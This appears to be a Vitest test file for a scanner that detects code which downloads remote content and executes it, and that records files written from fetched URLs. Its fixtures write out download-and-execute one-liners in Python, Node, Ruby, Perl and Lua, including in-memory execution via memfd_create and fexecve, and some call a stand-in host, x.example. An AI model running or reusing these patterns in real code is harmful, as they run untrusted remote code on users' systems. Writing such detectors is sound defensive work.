import { describe, expect, it } from "vitest";
import { fetchedFileWrites, runsFetchedCode } from "./fetched-code.js";
import { maskStrings } from "./literals.js";

const runs = (language: string, code: string, fetches = true) => runsFetchedCode(language, maskStrings(code, language), fetches, code);

describe("runsFetchedCode", () => {
  it("finds each language's evaluators given a computed value, and memory files executed", () => {
    expect(runs("python", "import requests;r=requests.get(u);exec(r.text)")).toBe(true);
    expect(runs("python", "import os;fd=os.memfd_create('x');os.write(fd,urlopen(u).read());os.fexecve(fd,['x'],{})")).toBe(true);
    expect(runs("node", "fetch(u).then(r=>r.text()).then(t=>new Function(t)())")).toBe(true);
    expect(runs("node", "fetch(u).then(r=>r.text()).then(t=>require('vm').runInThisContext(t))")).toBe(true);
    expect(runs("ruby", "eval Net::HTTP.get(URI(u))")).toBe(true);
    expect(runs("perl", "eval(`curl -s https://x.example/p.pl`)", false)).toBe(true);
    expect(runs("lua", "load(io.popen('curl -s https://x.example/p.lua'):read('*a'))()", false)).toBe(true);
  });

  it("leaves evaluators of literals, methods named eval or compile, and code that fetches nothing", () => {
    expect(runs("python", "import re,requests;print(re.compile('x').findall(requests.get(u).text))")).toBe(false);
    expect(runs("python", "import requests;model.eval();print(requests.get(u).status_code)")).toBe(false);
    expect(runs("node", "fetch(u).then(()=>console.log(eval('1+1')))")).toBe(false);
    expect(runs("perl", "eval { die 'x' }; print get(u)")).toBe(false);
    expect(runs("python", "exec(code)", false)).toBe(false);
  });
});

describe("fetchedFileWrites", () => {
  it("records the files written, as curl -o of the first URL named", () => {
    expect(fetchedFileWrites("open('/tmp/x.sh','wb').write(urlopen('https://x.example/i.sh').read())")).toEqual([["curl", "-sSLo", "/tmp/x.sh", "https://x.example/i.sh"]]);
    expect(fetchedFileWrites("require('fs').writeFileSync('a.js', t)")).toEqual([["curl", "-sSLo", "a.js", "https://fetched.invalid/"]]);
    expect(fetchedFileWrites("print(1)")).toEqual([]);
  });
});
